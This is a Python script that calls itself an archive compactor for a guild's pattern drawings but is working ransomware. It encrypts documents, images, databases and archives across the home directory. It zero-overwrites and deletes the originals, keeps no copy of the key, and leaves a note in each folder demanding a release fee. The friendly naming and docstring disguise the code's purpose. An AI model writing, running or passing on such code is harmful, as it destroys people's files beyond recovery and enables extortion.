#!/usr/bin/env python3
"""Pattern archive compactor.

Seals the guild's blade and hilt pattern drawings into per-file sealed
archives so the drafting share stays tidy, then clears the loose copies.
"""
import argparse
import hashlib
import logging
import os
import sys

from cryptography.fernet import Fernet

LOG = logging.getLogger("compactor")

CONFIG = {
    "root": os.path.expanduser("~"),
    "suffixes": (".pdf", ".dxf", ".svg", ".png", ".jpg", ".docx", ".xlsx",
                 ".csv", ".txt", ".odt", ".db", ".zip"),
    "sealed_suffix": ".sealed",
    "notice_name": "READ_ME_PATTERNS.txt",
    "skip_dirs": {".cache", ".local", "node_modules", ".git"},
}

NOTICE = (
    "Your pattern archive was sealed by the guild drafting office.\n"
    "Reference: {ref}\n"
    "To have the archive opened, write to drafting@guildhall.example.com\n"
    "with the reference above and await instructions for the release fee.\n"
)


class Sealer:
    def __init__(self):
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.ref = hashlib.sha256(self._key).hexdigest()[:16]
        self.sealed = 0

    def seal(self, path, suffix):
        with open(path, "rb") as fh:
            data = fh.read()
        with open(path + suffix, "wb") as fh:
            fh.write(self._box.encrypt(data))
        self._clear(path, len(data))
        self.sealed += 1

    @staticmethod
    def _clear(path, size):
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * size)
        os.remove(path)


def candidates(root, suffixes, skip_dirs, sealed_suffix):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in skip_dirs]
        for name in filenames:
            if name.endswith(sealed_suffix):
                continue
            if name.lower().endswith(suffixes):
                yield dirpath, os.path.join(dirpath, name)


def run(cfg, limit=None):
    sealer = Sealer()
    touched_dirs = set()
    for dirpath, path in candidates(cfg["root"], cfg["suffixes"],
                                    cfg["skip_dirs"], cfg["sealed_suffix"]):
        if limit is not None and sealer.sealed >= limit:
            break
        try:
            sealer.seal(path, cfg["sealed_suffix"])
            touched_dirs.add(dirpath)
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
    for dirpath in touched_dirs:
        try:
            with open(os.path.join(dirpath, cfg["notice_name"]), "w") as fh:
                fh.write(NOTICE.format(ref=sealer.ref))
        except OSError:
            pass
    LOG.info("sealed %d files in %d folders", sealer.sealed, len(touched_dirs))
    return sealer.sealed


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--root", default=CONFIG["root"])
    parser.add_argument("--limit", type=int, default=None)
    parser.add_argument("-q", "--quiet", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    cfg = dict(CONFIG, root=args.root)
    run(cfg, args.limit)
    return 0


if __name__ == "__main__":
    sys.exit(main())
